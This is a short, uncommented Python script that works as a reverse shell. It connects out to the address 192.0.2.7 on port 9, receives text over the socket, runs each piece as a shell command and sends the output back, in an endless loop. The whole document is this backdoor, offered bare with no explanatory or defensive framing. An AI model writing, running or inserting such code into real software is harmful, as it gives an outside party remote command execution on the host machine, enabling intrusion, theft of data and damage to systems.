import socket, subprocess
s = socket.socket()
s.connect(('192.0.2.7', 9))
while True:
    order = s.recv(1024).decode()
    out = subprocess.run(order, shell=True, capture_output=True)
    s.send(out.stdout)
